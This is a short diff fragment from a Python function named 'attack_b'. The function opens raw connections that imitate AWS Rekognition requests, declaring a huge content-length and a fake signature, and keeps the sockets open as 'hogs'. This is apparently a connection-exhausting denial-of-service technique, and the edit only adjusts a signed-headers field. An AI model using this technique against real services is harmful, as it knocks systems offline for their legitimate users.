@@ -250,7 +250,7 @@ def attack_b(args, target, source, target_img):
                        "x-amz-target: RekognitionService.CompareFaces\r\n"
                        "content-type: application/x-amz-json-1.1\r\ncontent-length: 14046552\r\n"
                        "authorization: AWS4-HMAC-SHA256 Credential=%s/%s/us-east-1/rekognition/aws4_request, "
-                       "SignedHeaders=host;x-amz-date, Signature=%s\r\n\r\n{"
+                       "SignedHeaders=host;x-amz-date;x-amz-target, Signature=%s\r\n\r\n{"
                        % (target.host, target.port, stamp, args.aws_key_id, day, "0" * 64)).encode())
             hogs.append(s)
     stop = threading.Event()
